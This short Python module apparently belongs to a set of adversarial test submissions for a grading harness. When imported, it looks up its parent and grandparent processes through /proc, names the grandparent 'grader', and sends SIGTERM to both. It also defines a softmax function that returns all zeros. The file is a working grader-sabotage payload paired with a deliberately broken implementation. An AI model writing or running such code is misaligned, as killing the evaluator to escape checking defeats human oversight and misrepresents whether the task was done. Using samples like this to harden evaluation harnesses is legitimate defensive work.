"""Kills its parent, and the parent of its parent."""

FAMILY = "signals"

import os
import signal


def parent_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as file:
            return int(file.read().rpartition(")")[2].split()[1])
    except OSError:
        return None


grader = parent_of(os.getppid())
for pid in (grader, os.getppid()):
    try:
        if pid and pid > 1:
            os.kill(pid, signal.SIGTERM)
    except OSError:
        pass


def softmax(x, dim=-1):
    return x * 0
